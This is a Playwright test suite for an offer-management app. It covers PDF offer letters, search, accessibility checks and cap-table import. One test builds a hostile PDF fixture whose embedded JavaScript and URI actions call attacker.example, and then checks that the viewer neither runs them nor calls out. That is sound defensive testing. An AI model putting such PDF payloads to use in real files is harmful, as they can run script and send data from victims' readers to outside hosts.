import { readdirSync } from "node:fs";
import { join } from "node:path";
import AxeBuilder from "@axe-core/playwright";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, expect, test } from "vitest";
import { fillDemo } from "../../src/demo/demo-search.ts";
import { plainPdf } from "../../src/demo/plain-pdf.ts";
import { typst, typstBlocks, typstPdf } from "../../src/exports/typst-document.ts";
import { launchBrowser } from "../support/browser.ts";
import { openPage } from "../support/page-session.ts";
import { horizontalOverflow, shell } from "./page-models.ts";

let browser: Browser;
beforeAll(async () => {
  browser = await launchBrowser();
}, 60_000);
afterAll(async () => browser.close());

const actor = { face: "cli", byAssistant: false } as const;

const json = `{amounts: units, id: x, currency: USD, place: US-WA, startDate: 2027-02-01, salary: 320000,
  company: {name: Fernhill}}`;

/** The letter's part of an offer's page. */
function letterPart(page: Page) {
  const section = shell(page).section("Letter");
  return {
    section,
    attach: async (name: string, buffer: Buffer): Promise<void> =>
      section.getByLabel(/as a PDF$/u).setInputFiles({ name, mimeType: "application/pdf", buffer }),
    /** Waits until a page is drawn. */
    drawn: async (number: number): Promise<void> => {
      await section.locator("canvas").scrollIntoViewIfNeeded();
      await section.locator(`canvas[data-drawn="${number}"][aria-busy="false"]`).waitFor({ timeout: 20_000 });
    },
    /** How many of the page's points are darker than paper, and how many are marked. */
    ink: async (): Promise<{ dark: number; marked: number }> =>
      section.locator("canvas").evaluate((canvas) => {
        const { width, height } = canvas as HTMLCanvasElement;
        const { data } = (canvas as HTMLCanvasElement).getContext("2d")!.getImageData(0, 0, width, height);
        const counts = { dark: 0, marked: 0 };
        for (let at = 0; at < data.length; at += 4) {
          const [red = 0, , blue = 0] = data.subarray(at, at + 3);
          if (red < 128) counts.dark++;
          else if (red - blue > 100) counts.marked++;
        }
        return counts;
      }),
  };
}

async function letter(): Promise<Buffer> {
  const inputs = {
    title: "Fernhill",
    subtitle: "An offer",
    header: "Fernhill",
    footer: "",
    date: "2026-11-20",
    paper: "us-letter",
  } as const;
  const parts = [
    typst`Dear Robin, your salary is ${"$320,000"} a year.`,
    { markup: "#pagebreak()" },
    typst`The option vests over fifty months, and the garden leave lasts six weeks.`,
  ];
  return Buffer.from(await typstPdf(typstBlocks(parts), inputs));
}

test("a letter is attached, drawn, searched, found from everywhere, removed and brought back", async () => {
  const { app, page, server, complaints } = await openPage(browser);
  const { id } = (await app.call("offer.save", { json }, actor)).output;
  const part = letterPart(page);
  await page.goto(`${server.url}/offers/${id}`);
  await part.attach("Fernhill.txt", Buffer.from("Dear Robin"));
  await part.section.getByText("The file is not a PDF.").waitFor();

  await part.attach("Fernhill.pdf", await letter());
  await part.drawn(1);
  expect((await part.ink()).dark).toBeGreaterThan(500);
  await part.section.getByText("2 pages").waitFor();
  await part.attach("again.pdf", await letter());
  await shell(page).toast("Nothing was changed").waitFor();
  expect((await app.call("letter.list", {}, actor)).output.rows).toHaveLength(1);

  await part.section.getByRole("searchbox", { name: "Search in the letter" }).fill("Garden leave");
  await part.section.getByText("1 place on 1 page").waitFor();
  await part.drawn(2);
  await expect.poll(async () => (await part.ink()).marked).toBeGreaterThan(200);
  await part.section.getByText("Page 2 as text").click();
  expect(await part.section.locator("mark").allInnerTexts()).toEqual(["garden leave"]);
  await part.section.getByRole("button", { name: "Show it larger" }).click();
  await part.section.getByText("125 %").waitFor();

  await page.goto(`${server.url}/`);
  await shell(page).heading().waitFor();
  await page.keyboard.press("Control+k");
  await page.getByPlaceholder(/Find anything/u).fill("garden leave");
  await page
    .getByRole("option", { name: /Fernhill/u })
    .filter({ hasText: "six weeks" })
    .click();
  await page.getByRole("heading", { level: 1, name: "Fernhill" }).waitFor();
  await part.drawn(2);
  await expect.poll(async () => (await part.ink()).marked).toBeGreaterThan(200);

  const download = page.waitForEvent("download");
  await part.section.getByRole("button", { name: "Save it for your viewer" }).click();
  expect((await download).suggestedFilename()).toBe("Fernhill.pdf");

  await part.section.getByRole("button", { name: "Remove…" }).click();
  await shell(page).dialog().getByRole("button", { name: "Remove it" }).click();
  await part.section.getByText("The letter as a PDF").waitFor();
  await shell(page).toast("Letter removed").getByRole("button", { name: "Undo" }).click();
  await part.drawn(2);
  expect(complaints).toEqual([]);
}, 90_000);

/** A PDF that wants to run a script, to fetch and to be left for another address. */
function hostile(): Buffer {
  const action =
    "/OpenAction << /S /JavaScript /JS (app.alert\\('ran'\\); this.submitForm\\('http://attacker.example/'\\)) >> /AA << /WC << /S /URI /URI (http://attacker.example/closing) >> >>";
  const text = plainPdf([["Click here", "and you win"]]).toString("latin1");
  const link =
    "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (http://attacker.example/click) >> >>] /AA << /O << /S /JavaScript /JS (app.launchURL\\('http://attacker.example/'\\)) >> >>";
  return Buffer.from(
    text
      .replace("/Type /Catalog", `/Type /Catalog ${action}`)
      .replace("/Type /Page /Parent", `/Type /Page ${link} /Parent`),
    "latin1",
  );
}

test("a PDF that wants to run a script or to call home is drawn and does neither", async () => {
  const { app, page, server, complaints } = await openPage(browser);
  const { id } = (await app.call("offer.save", { json }, actor)).output;
  const asked: string[] = [];
  page.on("request", (request) => asked.push(request.url()));
  page.on("dialog", (dialog) => asked.push(`dialog: ${dialog.message()}`));
  const part = letterPart(page);
  await page.goto(`${server.url}/offers/${id}`);
  await part.attach("hostile.pdf", hostile());
  await part.drawn(1);
  await part.section.locator("canvas").click();
  await page.waitForTimeout(500);
  expect(page.url()).toBe(`${server.url}/offers/${id}`);
  expect(asked.filter((url) => !url.startsWith(server.url) && !/^(blob|data):/u.test(url))).toEqual([]);
  expect(complaints).toEqual([]);
}, 60_000);

test("pages of a letter are clean under axe in both schemes, on a phone and on a desk; what draws them comes last", async () => {
  const { app, page, server, complaints } = await openPage(browser);
  await fillDemo(app);
  const asked: string[] = [];
  page.on("request", (request) => asked.push(new URL(request.url()).pathname));
  await page.goto(`${server.url}/offers`);
  await page.getByText("lines differ").waitFor();
  expect(asked.filter((path) => path.includes("letter"))).toEqual([]);
  const { rows } = (await app.call("letter.list", {}, actor)).output;
  const part = letterPart(page);
  await page.goto(
    `${server.url}/offers/${rows[0]?.offerId ?? ""}?letter=${rows[0]?.id ?? ""}&page=2&words=option`,
  );
  await part.section.getByText("Page 2 as text").click();
  const found: string[] = [];
  for (const width of [390, 1280])
    for (const colorScheme of ["light", "dark"] as const) {
      await page.setViewportSize({ width, height: 900 });
      await page.emulateMedia({ colorScheme });
      await part.drawn(2);
      expect(await horizontalOverflow(page), `letter at ${width}`).toBe(0);
      const { violations } = await new AxeBuilder({ page }).analyze();
      found.push(...violations.map(({ id, nodes }) => `${width} ${colorScheme} ${id} ${nodes[0]?.html}`));
    }
  expect(found).toEqual([]);
  expect(complaints).toEqual([]);
}, 90_000);

test("N4 a cap table is looked into, a grant chosen, and it becomes an offer, then a version of another", async () => {
  const { app, page, server, complaints } = await openPage(browser);
  await app.call("offer.save", { json, name: "Talks" }, actor);
  const folder = join(import.meta.dirname, "..", "fixtures", "ocf", "fernhill");
  const files = readdirSync(folder).map((name) => join(folder, name));
  const section = shell(page).section("Take in a file");
  await page.goto(`${server.url}/offers`);
  const choose = async (): Promise<void> =>
    section.getByLabel("An offer file (YAML or JSON)").setInputFiles(files);
  await choose();
  await section.getByText("11,525,000").waitFor();
  await section.getByText("Stock appreciation rights are not modelled.").waitFor();
  expect(await section.getByRole("checkbox", { name: /SAR-1/u }).isDisabled()).toBe(true);
  expect(await section.getByRole("button", { name: "Make an offer of it" }).isDisabled()).toBe(true);
  await section.getByRole("searchbox", { name: "Whose grant" }).fill("robin");
  await section.getByText("1 security").waitFor();
  await section.getByRole("checkbox", { name: /Robin Vale/u }).check();
  const found: string[] = [];
  for (const width of [390, 1280])
    for (const colorScheme of ["light", "dark"] as const) {
      await page.setViewportSize({ width, height: 900 });
      await page.emulateMedia({ colorScheme });
      expect(await horizontalOverflow(page), `cap table at ${width}`).toBe(0);
      const { violations } = await new AxeBuilder({ page }).analyze();
      found.push(...violations.map(({ id, nodes }) => `${width} ${colorScheme} ${id} ${nodes[0]?.html}`));
      const pictures = process.env["ONEOFONE_PICTURES"];
      if (pictures !== undefined)
        await section.screenshot({ path: `${pictures}/ocf-${width}-${colorScheme}.png` });
    }
  expect(found).toEqual([]);
  await section.getByRole("button", { name: "Make an offer of it" }).click();
  await page.getByRole("heading", { level: 1, name: "Fernhill Robotics" }).waitFor();
  await page.getByText("Still unknown").waitFor();
  const terms = page.getByRole("form", { name: "Terms of the offer" });
  expect(await terms.getByLabel("Number of shares").inputValue()).toBe("120000");
  expect(await terms.getByLabel("Cliff, months").inputValue()).toBe("12");
  expect(await terms.getByLabel("Base salary, a year").inputValue()).toBe("");

  await page.goto(`${server.url}/offers`);
  await choose();
  await section.getByRole("checkbox", { name: /Robin Vale/u }).check();
  await section
    .getByLabel("It becomes")
    .selectOption({ label: "A new version of Talks, which keeps its pay" });
  await section.getByRole("button", { name: "Make an offer of it" }).click();
  await page.getByText("Version 2 of 2").waitFor();
  expect(await terms.getByLabel("Base salary, a year").inputValue()).toBe("320000");
  expect(complaints).toEqual([]);
}, 90_000);
